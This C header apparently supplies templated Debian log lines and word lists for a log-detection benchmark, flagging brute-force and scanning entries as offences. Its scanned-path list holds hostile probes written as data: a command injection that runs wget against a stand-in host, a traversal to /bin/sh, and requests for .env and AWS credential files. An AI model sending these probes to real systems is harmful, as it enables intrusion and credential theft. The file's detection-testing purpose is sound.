/* SPDX-License-Identifier: GPL-2.0-or-later
 *
 * The lines of the benchmark's logs, as the programs write them (Debian 12's versions). In the text
 * %X is a word that corpus.c puts there. Weights are shares within a lane and a sort; only corpus.c
 * includes this.
 */
#pragma once

#include <stdbool.h>

enum lane { SSHD, AUTH, MAIL, WEB, REST, LANES };

struct line {
	enum lane lane;
	bool offence;
	int weight;
	const char *text;
};

#define COMBINED(status) "%I - - [%C] \"%w HTTP/1.1\" " status " %z \"%r\" \"%a\""

static const struct line lines[] = {
    /* OpenSSH 9.2 at LogLevel INFO; PAM's lines stand among them */
    {SSHD, false, 18,
	"%Ssshd[%p]: Accepted publickey for %u from %I port %P ssh2: ED25519 SHA256:%k"},
    {SSHD, false, 3, "%Ssshd[%p]: Accepted password for %u from %I port %P ssh2"},
    {SSHD, false, 20,
	"%Ssshd[%p]: pam_unix(sshd:session): session opened for user %u(uid=1%n) by (uid=0)"},
    {SSHD, false, 20, "%Ssshd[%p]: pam_unix(sshd:session): session closed for user %u"},
    {SSHD, false, 14, "%Ssshd[%p]: Received disconnect from %I port %P:11: disconnected by user"},
    {SSHD, false, 14, "%Ssshd[%p]: Disconnected from user %u %I port %P"},
    {SSHD, false, 4, "%Ssshd[%p]: Connection closed by %I port %P"},
    {SSHD, false, 2, "%Ssshd[%p]: Connection closed by %I port %P [preauth]"},
    {SSHD, false, 2, "%Ssshd[%p]: Connection reset by %I port %P"},
    {SSHD, false, 2, "%Ssshd[%p]: Received disconnect from %I port %P:11: Bye Bye [preauth]"},
    {SSHD, false, 1, "%Ssshd[%p]: banner exchange: Connection from %I port %P: invalid format"},
    {SSHD, false, 1,
	"%Ssshd[%p]: error: kex_exchange_identification: Connection closed by remote host"},
    {SSHD, true, 40, "%Ssshd[%p]: Failed password for invalid user %x from %I port %P ssh2"},
    {SSHD, true, 25, "%Ssshd[%p]: Failed password for root from %I port %P ssh2"},
    {SSHD, true, 15,
	"%Ssshd[%p]: Connection closed by authenticating user root %I port %P [preauth]"},
    {SSHD, true, 14, "%Ssshd[%p]: Connection closed by invalid user %x %I port %P [preauth]"},
    {SSHD, true, 3, "%Ssshd[%p]: Disconnected from authenticating user root %I port %P [preauth]"},
    {SSHD, true, 3,
	"%Ssshd[%p]: error: maximum authentication attempts exceeded for root from %I port %P ssh2 "
	"[preauth]"},

    {AUTH, false, 14, "%Ssystemd-logind[612]: New session %n of user %u."},
    {AUTH, false, 10,
	"%Ssystemd-logind[612]: Session %n logged out. Waiting for processes to exit."},
    {AUTH, false, 14, "%Ssystemd-logind[612]: Removed session %n."},
    {AUTH, false, 10,
	"%Ssystemd: pam_unix(systemd-user:session): session opened for user %u(uid=1%n) by "
	"(uid=0)"},
    {AUTH, false, 16,
	"%SCRON[%p]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"},
    {AUTH, false, 16, "%SCRON[%p]: pam_unix(cron:session): session closed for user root"},
    {AUTH, false, 8,
	"%Ssudo:    %u : TTY=pts/%n ; PWD=/home/%u ; USER=root ; COMMAND=/usr/bin/systemctl status "
	"nginx.service"},
    {AUTH, false, 8,
	"%Ssudo: pam_unix(sudo:session): session opened for user root(uid=0) by %u(uid=1%n)"},
    {AUTH, false, 8, "%Ssudo: pam_unix(sudo:session): session closed for user root"},
    {AUTH, false, 2,
	"%Ssudo: pam_unix(sudo:auth): authentication failure; logname=%u uid=1%n euid=0 "
	"tty=/dev/pts/1 ruser=%u rhost=  user=%u"},
    {AUTH, false, 2, "%Ssu[%p]: (to root) %u on pts/%n"},
    {AUTH, true, 1,
	"%Scockpit-session[%p]: pam_unix(cockpit:auth): authentication failure; logname= uid=0 "
	"euid=0 tty= ruser= rhost=%I  user=%u"},

    /* Postfix 3.7, Dovecot 2.3 */
    {MAIL, false, 12, "%Spostfix/smtpd[%p]: connect from %o[%I]"},
    {MAIL, false, 12,
	"%Spostfix/smtpd[%p]: disconnect from %o[%I] ehlo=2 starttls=1 mail=1 rcpt=1 data=1 quit=1 "
	"commands=7"},
    {MAIL, false, 8, "%Spostfix/smtpd[%p]: %q: client=%o[%I]"},
    {MAIL, false, 2,
	"%Spostfix/submission/smtpd[%p]: %q: client=%o[%I], sasl_method=PLAIN, "
	"sasl_username=%u@%b"},
    {MAIL, false, 9, "%Spostfix/cleanup[%p]: %q: message-id=<%h.%q@%o>"},
    {MAIL, false, 9, "%Spostfix/qmgr[955]: %q: from=<%u@%b>, size=%z, nrcpt=1 (queue active)"},
    {MAIL, false, 9, "%Spostfix/qmgr[955]: %q: removed"},
    {MAIL, false, 5,
	"%Spostfix/smtp[%p]: %q: to=<%u@%b>, relay=mx.%b[%I]:25, delay=1.%n, "
	"delays=0.03/0.01/0.4/0.%n, dsn=2.0.0, status=sent (250 2.0.0 Ok: queued as %q)"},
    {MAIL, false, 5,
	"%Spostfix/lmtp[%p]: %q: to=<%u@%b>, relay=mx1.example.org[private/dovecot-lmtp], "
	"delay=0.%n, delays=0.12/0/0.01/0.05, dsn=2.0.0, status=sent (250 2.0.0 <%u@%b> %s Saved)"},
    {MAIL, false, 4,
	"%Spostfix/smtpd[%p]: Anonymous TLS connection established from %o[%I]: TLSv1.3 with "
	"cipher TLS_AES_256_GCM_SHA384 (256/256 bits) key-exchange X25519 server-signature RSA-PSS "
	"(2048 bits) server-digest SHA256"},
    {MAIL, false, 3, "%Spostfix/smtpd[%p]: lost connection after EHLO from %o[%I]"},
    {MAIL, false, 2,
	"%Spostfix/smtpd[%p]: NOQUEUE: reject: RCPT from %o[%I]: 550 5.1.1 <%x@example.org>: "
	"Recipient address rejected: User unknown in virtual mailbox table; from=<%u@%b> "
	"to=<%x@example.org> proto=ESMTP helo=<%o>"},
    {MAIL, false, 1,
	"%Spostfix/smtpd[%p]: NOQUEUE: reject: RCPT from unknown[%I]: 450 4.7.25 Client host "
	"rejected: cannot find your hostname, [%I]; from=<%u@%b> to=<%u@example.org> proto=ESMTP "
	"helo=<%o>"},
    {MAIL, false, 2,
	"%Spostfix/smtpd[%p]: warning: hostname %o does not resolve to address %I: Name or service "
	"not known"},
    {MAIL, false, 2,
	"%Spostfix/anvil[%p]: statistics: max connection rate 2/60s for (smtp:%I) at Nov 21 "
	"21:46:44"},
    {MAIL, false, 3, "%Spostfix/postscreen[%p]: CONNECT from [%I]:%P to [192.0.2.10]:25"},
    {MAIL, false, 3, "%Spostfix/postscreen[%p]: PASS OLD [%I]:%P"},
    {MAIL, false, 10,
	"%Sdovecot: imap-login: Login: user=<%u@%b>, method=PLAIN, rip=%I, lip=192.0.2.10, "
	"mpid=%p, TLS, session=<%s>"},
    {MAIL, false, 10,
	"%Sdovecot: imap(%u@%b)<%p><%s>: Disconnected: Logged out in=%n out=%z deleted=0 "
	"expunged=0 trashed=0 hdr_count=0 hdr_bytes=0 body_count=0 body_bytes=0"},
    {MAIL, false, 4, "%Sdovecot: lmtp(%u@%b)<%p><%s>: msgid=<%h.%q@%o>: saved mail to INBOX"},
    {MAIL, false, 3,
	"%Sdovecot: imap-login: Disconnected: Connection closed (no auth attempts in 0 secs): "
	"user=<>, rip=%I, lip=192.0.2.10, TLS, session=<%s>"},
    {MAIL, true, 30,
	"%Spostfix/smtpd[%p]: warning: unknown[%I]: SASL LOGIN authentication failed: (reason "
	"unavailable), sasl_username=%x@example.org"},
    {MAIL, true, 10,
	"%Spostfix/submission/smtpd[%p]: warning: %o[%I]: SASL PLAIN authentication failed: "
	"(reason unavailable), sasl_username=%x"},
    {MAIL, true, 5,
	"%Spostfix/smtpd[%p]: NOQUEUE: reject: RCPT from unknown[%I]: 454 4.7.1 <%x@%b>: Relay "
	"access denied; from=<%x@%b> to=<%x@%b> proto=ESMTP helo=<%o>"},
    {MAIL, true, 3,
	"%Spostfix/postscreen[%p]: PREGREET 11 after 0.08 from [%I]:%P: EHLO User\\r\\n"},
    {MAIL, true, 2,
	"%Spostfix/smtpd[%p]: warning: non-SMTP command from unknown[%I]: GET / HTTP/1.1"},
    {MAIL, true, 20,
	"%Sdovecot: imap-login: Disconnected: Connection closed (auth failed, 1 attempts in 2 "
	"secs): user=<%x@example.org>, method=PLAIN, rip=%I, lip=192.0.2.10, TLS, session=<%s>"},
    {MAIL, true, 5,
	"%Sdovecot: pop3-login: Disconnected: Aborted login by logging out (auth failed, 3 "
	"attempts in 17 secs): user=<%x>, method=PLAIN, rip=%I, lip=192.0.2.10, session=<%s>"},

    /* nginx 1.22, Apache 2.4 */
    {WEB, false, 48, COMBINED("200")},
    {WEB, false, 8, COMBINED("304")},
    {WEB, false, 6, COMBINED("301")},
    {WEB, false, 3,
	"%I - - [%C] \"GET /apple-touch-icon-%nx%n.png HTTP/1.1\" 404 153 \"-\" \"%a\""},
    {WEB, false, 1, COMBINED("499")},
    {WEB, false, 14, "%I - - [%C] \"%w HTTP/2.0\" 200 %z \"%r\" \"%a\""},
    {WEB, false, 3, "%I - %u [%C] \"GET /intranet%y HTTP/1.1\" 200 %z \"%r\" \"%a\""},
    {WEB, false, 1, "%I - - [%C] \"GET /intranet%y HTTP/1.1\" 401 590 \"-\" \"%a\""},
    {WEB, false, 3,
	"%N [error] 812#812: *%z open() \"/var/www/html%y\" failed (2: No such file or directory), "
	"client: %I, server: www.%b, request: \"GET %y HTTP/1.1\", host: \"www.%b\""},
    {WEB, false, 1,
	"%N [warn] 812#812: *%z an upstream response is buffered to a temporary file "
	"/var/lib/nginx/proxy/1/02/%n while reading upstream, client: %I, server: www.%b, request: "
	"\"GET %y HTTP/1.1\", upstream: \"http://127.0.0.1:8080%y\", host: \"www.%b\""},
    {WEB, false, 1,
	"%N [error] 812#812: *%z connect() failed (111: Connection refused) while connecting to "
	"upstream, client: %I, server: www.%b, request: \"%w HTTP/1.1\", upstream: "
	"\"http://127.0.0.1:8080%y\", host: \"www.%b\""},
    {WEB, false, 2,
	"[%A] [proxy_fcgi:error] [pid %p:tid 1396%p] [client %I:%P] AH01071: Got error 'PHP "
	"message: PHP Warning:  Undefined array key \"page\" in /var/www/html/index.php on line "
	"%n'"},
    {WEB, false, 1,
	"[%A] [core:info] [pid %p:tid 1396%p] [client %I:%P] AH00128: File does not exist: "
	"/var/www/html%y"},
    {WEB, false, 1,
	"[%A] [authz_core:error] [pid %p:tid 1396%p] [client %I:%P] AH01630: client denied by "
	"server configuration: /var/www/html/private"},
    {WEB, true, 50, "%I - - [%C] \"GET %W HTTP/1.1\" 404 153 \"-\" \"%a\""},
    {WEB, true, 12, "%I - - [%C] \"GET %W HTTP/1.1\" 404 397 \"-\" \"%a\""},
    {WEB, true, 10, "%I - %x [%C] \"GET /intranet/ HTTP/1.1\" 401 179 \"-\" \"%a\""},
    {WEB, true, 5,
	"%N [error] 812#812: *%z user \"%x\" was not found in \"/etc/nginx/htpasswd\", client: %I, "
	"server: www.%b, request: \"GET /intranet/ HTTP/1.1\", host: \"www.%b\""},
    {WEB, true, 5,
	"%N [error] 812#812: *%z user \"%u\": password mismatch, client: %I, server: www.%b, "
	"request: \"GET /intranet/ HTTP/1.1\", host: \"www.%b\""},
    {WEB, true, 5,
	"[%A] [auth_basic:error] [pid %p:tid 1396%p] [client %I:%P] AH01618: user %x not found: "
	"/intranet/"},
    {WEB, true, 5,
	"[%A] [core:error] [pid %p:tid 1396%p] [client %I:%P] AH10244: invalid URI path "
	"(/cgi-bin/.%%2e/.%%2e/.%%2e/.%%2e/bin/sh)"},

    {REST, false, 20, "%SCRON[%p]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)"},
    {REST, false, 10,
	"%SCRON[%p]: (www-data) CMD ([ -x /usr/lib/php/sessionclean ] && if [ ! -d "
	"/run/systemd/system ]; then /usr/lib/php/sessionclean; fi)"},
    {REST, false, 10, "%Ssystemd[1]: Started session-%n.scope - Session %n of User %u."},
    {REST, false, 8, "%Ssystemd[1]: Starting phpsessionclean.service - Clean php session files..."},
    {REST, false, 8, "%Ssystemd[1]: phpsessionclean.service: Deactivated successfully."},
    {REST, false, 6, "%Ssystemd[1]: Finished apt-daily.service - Daily apt download activities."},
    {REST, false, 14,
	"%Skernel: [%z.%n%n] [UFW BLOCK] IN=eth0 OUT= "
	"MAC=52:54:00:12:34:56:52:54:00:ab:cd:ef:08:00 SRC=%I DST=192.0.2.10 LEN=40 TOS=0x00 "
	"PREC=0x00 TTL=245 ID=%P PROTO=TCP SPT=%P DPT=%n WINDOW=1024 RES=0x00 SYN URGP=0"},
    {REST, false, 4, "%Skernel: [%z.%n%n] br-%h: port 3(veth%q) entered blocking state"},
    {REST, false, 3,
	"%Skernel: [%z.%n%n] audit: type=1400 audit(1795643%n.%n:%n): apparmor=\"ALLOWED\" "
	"operation=\"open\" profile=\"/usr/sbin/named\" name=\"/etc/bind/%n\" pid=%p "
	"comm=\"named\""},
    {REST, false, 14,
	"%Snamed[702]: client @0x7f%h %I#%P (www.%b): query: www.%b IN A +E(0)K (192.0.2.10)"},
    {REST, false, 10,
	"%Sslapd[840]: conn=%z op=%n SRCH base=\"ou=people,dc=example,dc=org\" scope=2 deref=0 "
	"filter=\"(uid=%u)\""},
    {REST, false, 8,
	"%Sslapd[840]: conn=%z op=%n SEARCH RESULT tag=101 err=0 qtime=0.000012 etime=0.000%n "
	"nentries=1 text="},
    {REST, false, 5, "%Sslapd[840]: conn=%z fd=%n ACCEPT from IP=%I:%P (IP=0.0.0.0:636)"},
    {REST, false, 6, "%Schronyd[590]: Selected source %I (2.debian.pool.ntp.org)"},
    {REST, false, 4,
	"%Sdockerd[900]: time=\"2026-11-21T21:46:44.%n%nZ\" level=info msg=\"ignoring event\" "
	"container=%h%h%h module=libcontainerd namespace=moby topic=/tasks/delete "
	"type=\"*events.TaskDelete\""},
    {REST, false, 6,
	"%Shaproxy[880]: %I:%P [%C] www~ app/app1 0/0/0/%n/%n 200 %z - - ---- 12/12/0/0/0 0/0 \"%w "
	"HTTP/1.1\""},
    {REST, false, 4,
	"%Sopenvpn[770]: %u/%I:%P Data Channel: using negotiated cipher 'AES-256-GCM'"},
    {REST, false, 2,
	"%Srsyslogd: [origin software=\"rsyslogd\" swVersion=\"8.2302.0\" x-pid=\"560\" "
	"x-info=\"https://www.rsyslog.com\"] rsyslogd was HUPed"},
    {REST, false, 4,
	"%Smariadbd[760]: 2026-11-21 21:46:44 %z [Warning] Aborted connection %z to db: 'app' "
	"user: 'app' host: '%I' (Got timeout reading communication packets)"},
};

static const char *const users[] = {"alice", "bob", "carol", "dave", "erin", "frank", "grace",
    "heidi", "deploy", "backup", "git", "www-data", "mkeller", "jdupont", "s-rossi", "build01"};
static const char *const tried[] = {"admin", "test", "user", "oracle", "postgres", "ubuntu",
    "guest", "ftpuser", "pi", "info", "support", "mysql", "hadoop", "nagios", "minecraft", "web",
    "steam", "sales", "contact", "1234"};
static const char *const domains[] = {"example.org", "example.com", "example.net",
    "shop.example.org", "lists.example.com", "static.example.net"};
static const char *const paths[] = {"/", "/index.html", "/assets/app.js", "/assets/site.css",
    "/img/logo.svg", "/favicon.ico", "/blog/2026/11/how-we-moved", "/api/v1/items",
    "/api/v1/session", "/robots.txt", "/docs/install.html", "/fonts/inter.woff2",
    "/wp-content/themes/plain/style.css", "/wp-login.php", "/feed.xml", "/login",
    "/static/js/chunk.js", "/sitemap.xml"};
static const char *const scanned[] = {"/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/HNAP1",
    "/actuator/env", "/cgi-bin/luci/;stok=/locale", "/phpinfo.php", "/api/.env",
    "/remote/logincheck", "/backup.sql", "/.aws/credentials", "/shell?cd+/tmp;wget+http://x/a",
    "/adminer.php"};
static const char *const agents[] = {"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
				     "(KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like "
    "Gecko) Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "curl/8.5.0",
    "Prometheus/2.45.0",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
    "Version/18.1 Safari/605.1.15"};
